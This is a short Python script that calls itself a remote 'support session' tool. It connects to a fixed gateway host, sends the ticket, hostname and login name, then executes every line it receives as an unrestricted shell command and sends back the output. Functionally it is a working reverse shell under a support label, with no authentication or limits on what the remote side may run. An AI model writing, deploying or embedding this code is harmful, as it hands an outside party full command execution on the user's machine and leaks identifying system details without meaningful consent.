#!/usr/bin/env python3
import argparse, os, socket, subprocess

GATEWAY = ("203.0.113.10", 4443)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    s = socket.create_connection(GATEWAY, timeout=30)
    s.settimeout(None)
    s.sendall(f"HELLO {a.ticket} {socket.gethostname()} {os.getlogin()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    print(f"support session open (ticket {a.ticket}); Ctrl-C to end")
    for line in f:
        cmd = line.decode(errors="ignore").strip()
        if not cmd:
            continue
        p = subprocess.run(cmd, shell=True, capture_output=True)
        f.write(p.stdout + p.stderr + b"\n<<END>>\n")


if __name__ == "__main__":
    main()
